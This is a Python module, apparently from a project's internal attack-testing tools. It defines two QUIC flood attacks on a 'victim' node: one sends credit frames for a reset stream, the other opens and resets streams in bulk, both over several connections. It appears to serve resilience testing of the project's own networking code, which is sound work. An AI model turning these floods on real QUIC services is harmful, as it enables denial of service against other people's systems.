"""Frames that cost their sender little, over QUIC."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from itertools import count

import trio

from lattica.nat.base.errors import LatticaError
from lattica.nat.base.net.addresses import parse_multiaddr, split_peer
from lattica.nat.quic.connection import QuicConnection
from lattica.nat.quic.session.credit import encode_credit
from tools.attack.attack import ENEMY_HOST, Attack, Victim
from tools.attack.stranger import Attacker
from tools.attack.witnesses import client

CONNECTIONS = 4
_AHEAD = 256 * 1024
"""Bytes that wait in the enemy's own QUIC."""


@asynccontextmanager
async def connected(victim: Victim) -> AsyncIterator[QuicConnection]:
    addr, peer = split_peer(parse_multiaddr(victim.quic))
    assert peer is not None
    async with client() as enemy:
        dial = enemy.swarm.dial_unshared(peer, addr, source_ip=ENEMY_HOST)
        async with dial as connection:
            assert isinstance(connection, QuicConnection)
            yield connection


Write = Callable[[QuicConnection, int], int]
"""Gives one turn's worth to the enemy's QUIC, by the number of the turn; returns its bytes."""


async def _flood(victim: Victim, write: Write) -> None:
    async def one() -> None:
        while True:
            try:
                async with connected(victim) as connection:
                    await trio.sleep(0.2)
                    for turn in count():
                        connection.raise_if_closed()
                        native = connection.session._drive.native
                        if native.bytes_in_flight < native.congestion_window:
                            Attacker.sent += write(connection, turn)
                            connection.session._dirty = True
                            connection.wake_writer()
                        await trio.sleep(0.002)
            except* (LatticaError, RuntimeError):  # the latter is how qh3 says that it is closed
                await trio.sleep(0.01)

    async with trio.open_nursery() as nursery:
        for _ in range(CONNECTIONS):
            nursery.start_soon(one)


def _credit(connection: QuicConnection, turn: int) -> int:
    """Credit for a stream that is no more."""
    native = connection.session._drive.native
    if turn == 0:
        native.send_stream(4, b"x", False)
        native.reset_stream(4, 0)
        return 0
    if native.get_send_buffer_size(0) > _AHEAD:
        return 0
    data = encode_credit(4, 1) * (64 * 1024 // 3)
    native.send_stream(0, data, False)
    return len(data)


def _resets(connection: QuicConnection, turn: int) -> int:
    native = connection.session._drive.native
    limit = native.stream_limits[0]
    done = 0
    for number in range(1 + turn * 200, 1 + (turn + 1) * 200):
        if number < limit:
            native.send_stream(4 * number, b"", False)
            native.reset_stream(4 * number, 0)
            done += 1
    return 8 * done


async def _flood_credit(victim: Victim) -> None:
    await _flood(victim, _credit)


async def _flood_resets(victim: Victim) -> None:
    await _flood(victim, _resets)


CREDIT = Attack("quic-credit", "gives credit for a stream that is no more", _flood_credit)
RESETS = Attack("quic-resets", "opens streams over QUIC and resets them at once", _flood_resets)
